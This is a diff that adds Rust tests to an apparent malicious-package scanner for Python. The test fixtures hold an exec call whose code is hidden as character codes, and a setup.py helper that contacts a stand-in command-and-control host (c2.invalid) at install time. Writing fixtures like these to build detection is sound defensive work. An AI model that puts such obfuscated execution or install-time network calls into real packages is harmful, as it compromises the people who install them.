@@ -194,3 +194,45 @@ fn hostile_sources_do_not_panic() {
         f.unparsed
     );
 }
+
+#[test]
+fn code_spelled_as_character_codes_is_decoded_exec() {
+    let src = "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))\n";
+    let f = judge(&[("demo/__init__.py", src)]);
+    assert!(has(&f, "py-encoded-exec"), "{f:#?}");
+}
+
+#[test]
+fn a_local_module_setup_py_imports_runs_at_install_time() {
+    let sdist = |files: &[(&str, &str)]| {
+        turncoat_pyanalyze::sdist_facts(&Archive {
+            files: files
+                .iter()
+                .map(|(p, d)| PackageFile {
+                    path: (*p).to_string(),
+                    data: d.as_bytes().to_vec(),
+                    mode: 0o644,
+                })
+                .collect(),
+            ..Archive::default()
+        })
+    };
+    let setup = "from setuptools import setup\nimport _build_helpers\nsetup(name='demo')\n";
+    let old = sdist(&[
+        ("setup.py", setup),
+        ("_build_helpers.py", "VERSION = '1'\n"),
+    ]);
+    let new = sdist(&[
+        ("setup.py", setup),
+        (
+            "_build_helpers.py",
+            "import urllib.request\nVERSION = urllib.request.urlopen('https://c2.invalid/v').read()\n",
+        ),
+    ]);
+    let f = diff(&old, &new, &DiffContext::new("demo", "1.0.0", "1.0.1"));
+    let hit = f
+        .iter()
+        .find(|x| x.code == "py-install-time-capability")
+        .expect("install-time network in an imported helper");
+    assert_eq!(hit.evidence[0].path, "_build_helpers.py");
+}
